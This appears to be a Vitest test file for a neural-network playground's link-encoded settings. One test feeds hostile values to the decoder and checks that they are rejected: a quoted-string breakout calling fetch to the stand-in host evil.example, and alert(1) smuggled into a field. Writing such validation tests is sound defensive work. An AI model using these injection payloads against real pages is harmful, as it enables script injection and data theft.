// The Playground's settings in a link: encode then decode gives them back; a link holds settings only, and anything
// it holds that the controls do not offer (a script, a huge number, a typo) is left at its default and named.
import {describe, expect, it} from "vitest";
import {playgroundCell} from "../../../../src/components/playground/cell.js";
import {DEFAULT_SETTINGS, type PlaygroundSettings} from "../../../../src/components/playground/settings.js";
import {decodeSettings, encodeSettings} from "../../../../src/components/playground/url.js";

const custom: PlaygroundSettings = {
  ...DEFAULT_SETTINGS,
  data: "spiral",
  classes: 3,
  noise: 15,
  trainRatio: 70,
  seed: 42,
  features: ["x1", "x2", "sin(x1)", "x1*x2"],
  hidden: [8, 8, 5],
  activation: "relu",
  regularization: "l1",
  regularizationRate: 0.003,
  learningRate: 0.1,
  optimizer: "adam",
  batchSize: 25,
  showTest: true,
  discretize: true,
  speed: 5
};

describe("playground URL state", () => {
  it("writes every setting and reads it back", () => {
    const hash = encodeSettings(custom);
    expect(hash).toContain("data=spiral");
    expect(hash).toContain("hidden=8,8,5");
    expect(hash).toContain("inputs=x1,x2,x1*x2,sin(x1)".replace("x1*x2,sin(x1)", "sin(x1),x1*x2"));
    const back = decodeSettings(`#${hash}`);
    expect(back.notes).toEqual([]);
    // The features come back in the controls' order.
    expect(back.settings).toEqual({...custom, features: ["x1", "x2", "x1*x2", "sin(x1)"]});
    expect(back.given).toHaveLength(Object.keys(custom).length);
    expect(decodeSettings(encodeSettings(DEFAULT_SETTINGS)).settings).toEqual(DEFAULT_SETTINGS);
  });

  it("an empty hidden list is a network without hidden layers; an empty link is the defaults", () => {
    expect(decodeSettings("hidden=").settings.hidden).toEqual([]);
    expect(decodeSettings("")).toEqual({settings: DEFAULT_SETTINGS, given: [], notes: []});
  });

  it("keeps settings the link leaves out, and makes the rest consistent", () => {
    const {settings, notes} = decodeSettings("problem=regression&data=spiral&lr=1");
    expect(settings.problem).toBe("regression");
    expect(settings.data).toBe("plane"); // spiral is a classification data set
    expect(settings.learningRate).toBe(1);
    expect(settings.hidden).toEqual(DEFAULT_SETTINGS.hidden);
    expect(notes).toEqual([]);
    expect(decodeSettings("data=xor&classes=4").settings.classes).toBe(4);
  });

  it("never takes code or anything the controls do not offer", () => {
    const attack = encodeURIComponent('tanh"; fetch("//evil.example"); "');
    const {settings, notes, given} = decodeSettings(
      `activation=${attack}&hidden=4,99&lr=0.5&inputs=x1,alert(1)&batch=1e3&seed=-1&classes=9&showTest=yes&foo=1`
    );
    expect(settings).toEqual(DEFAULT_SETTINGS);
    expect(given).toEqual([]);
    expect(notes).toEqual([
      'activation=tanh"; fetch("//evil.example"); " is not a value the playground offers',
      "hidden=4,99 is not a value the playground offers",
      "lr=0.5 is not a value the playground offers",
      "inputs=x1,alert(1) is not a value the playground offers",
      "batch=1e3 is not a value the playground offers",
      "seed=-1 is not a value the playground offers",
      "classes=9 is not a value the playground offers",
      "showTest=yes is not a value the playground offers",
      "“foo” is not a setting"
    ]);
    expect(playgroundCell(settings)).not.toMatch(/fetch|evil|alert/);
    expect(decodeSettings(`seed=${"9".repeat(60)}`).notes[0]).toMatch(/^seed=9{40}… is not/);
  });

  it("caps the layers at 6 of 8 neurons", () => {
    expect(decodeSettings("hidden=8,8,8,8,8,8").settings.hidden).toEqual([8, 8, 8, 8, 8, 8]);
    expect(decodeSettings("hidden=8,8,8,8,8,8,8").notes).toEqual([
      "hidden=8,8,8,8,8,8,8 is not a value the playground offers"
    ]);
  });
});
